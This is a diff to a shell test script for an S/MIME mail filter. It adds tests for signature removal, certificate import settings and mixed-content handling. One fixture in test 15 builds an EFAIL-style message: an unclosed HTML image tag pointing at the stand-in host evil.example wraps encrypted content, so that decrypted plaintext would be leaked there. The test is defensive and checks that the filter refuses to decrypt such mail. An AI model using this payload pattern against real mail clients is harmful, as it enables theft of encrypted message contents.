@@ -2,7 +2,10 @@
 # postern-milter -t (offline mode) on real S/MIME mail made with the
 # openssl command line: decryption for internal recipients, none for
 # external ones, strict mode, signature verification with From match and
-# mismatch, tampering, forged info headers, the subject filter and tags.
+# mismatch, tampering, forged info headers, the subject filter and tags,
+# signature removal, certificate import (and its skip-untrusted and off
+# settings), ciphertext below the root (mixed content), and the
+# X-CipherMail-Info prefix.
 set -u
 top=${POSTERN_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}
 O=${O:-build}
@@ -140,6 +143,65 @@ echo "milter_max_message_size = 1k" >> "$tmp/p.conf"
 run big "$tmp/enc.eml" bob@example.net alice@example.com
 has "$tmp/big.log" "larger than milter_max_message_size" big && ok "too large: passes unchanged"
 sed -i '/^milter_max_message_size/d' "$tmp/p.conf"
+
+# 13. smime.remove-signature: the signature layer goes, the verdict stays
+c set --global smime.remove-signature true
+run rs "$tmp/sig.eml" alice@example.com dave@example.com
+has "$tmp/rs.out" "X-Postern-Info-Signer-Verified-0-0: True" rs
+has "$tmp/rs.out" "The launch code is 1234." rs
+hasnt "$tmp/rs.out" "multipart/signed" rs
+hasnt "$tmp/rs.out" "pkcs7-signature" rs
+has "$tmp/rs.log" "signature=removed" rs && ok "remove-signature: signature layer removed"
+c unset --global smime.remove-signature
+
+# 14. certificates of signed mail: smime.skip-untrusted-import keeps an
+#     untrusted (here expired) signer out of the store, off lets it in
+{
+	printf 'From: old@example.com\r\nTo: dave@example.com\r\nSubject: old key\r\n'
+	openssl cms -sign -signer "$tmp/pki/expired.crt" -inkey "$tmp/pki/expired.key" \
+	    -in "$tmp/inner.eml" | tr -d '\r' | sed 's/$/\r/'
+} > "$tmp/old.eml"
+c set --global smime.skip-untrusted-import true
+run old1 "$tmp/old.eml" old@example.com dave@example.com
+has "$tmp/old1.out" "X-Postern-Info-Signer-Trusted-0-0: False" old1
+"$ctl" -c "$tmp/p.conf" --json cert list --email old@example.com > "$tmp/old1.list" 2>&1
+[ "$(tr -d ' \n' < "$tmp/old1.list")" = "[]" ] && ok "skip-untrusted-import: expired signer not imported" ||
+    bad "skip-untrusted-import: imported: $(cat "$tmp/old1.list")"
+c set --global smime.skip-untrusted-import false
+run old2 "$tmp/old.eml" old@example.com dave@example.com
+"$ctl" -c "$tmp/p.conf" cert list --email old@example.com > "$tmp/old2.list" 2>&1
+has "$tmp/old2.list" "old@example.com" old2 && ok "without skip-untrusted-import: imported"
+c set --global smime.import-certificates false
+{
+	printf 'From: alice@example.com\r\nTo: dave@example.com\r\nSubject: new key\r\n'
+	openssl cms -sign -signer "$tmp/pki/alice2.crt" -inkey "$tmp/pki/alice2.key" \
+	    -certfile "$tmp/pki/inter.crt" -in "$tmp/inner.eml" | tr -d '\r' | sed 's/$/\r/'
+} > "$tmp/new.eml"
+run old3 "$tmp/new.eml" alice@example.com dave@example.com
+has "$tmp/old3.out" "X-Postern-Info-Signer-Verified-0-0: True" old3
+a2=$(openssl x509 -in "$tmp/pki/alice2.crt" -noout -fingerprint -sha512 | sed 's/.*=//; s/://g')
+if "$ctl" -c "$tmp/p.conf" cert show "$a2" >/dev/null 2>&1; then
+	bad "import-certificates false: alice2 imported"
+else
+	ok "import-certificates false: nothing imported"
+fi
+c unset --global smime.import-certificates
+c unset --global smime.skip-untrusted-import
+
+# 15. S/MIME inside a multipart/mixed (not the root): never decrypted
+#     into the surrounding content, mixed-content tag
+{
+	printf 'From: Bob <bob@example.net>\r\nTo: alice@example.com\r\nSubject: look\r\n'
+	printf 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="xx"\r\n\r\n'
+	printf -- '--xx\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n'
+	printf -- '--xx\r\n'
+	sed '1,3d' "$tmp/enc.eml"
+	printf -- '\r\n--xx--\r\n'
+} > "$tmp/mix.eml"
+run mix "$tmp/mix.eml" bob@example.net alice@example.com
+hasnt "$tmp/mix.out" "launch code" mix
+has "$tmp/mix.out" "X-Postern-Info-SMIME-Mixed-Content: True" mix
+has "$tmp/mix.out" "Subject: look [mixed content]" mix && ok "mixed content: not decrypted, tagged"
 
 # 12. drop-in for CipherMail users: info_header_prefix = X-CipherMail-Info
 #     (and ours among the legacy prefixes): the same headers under that
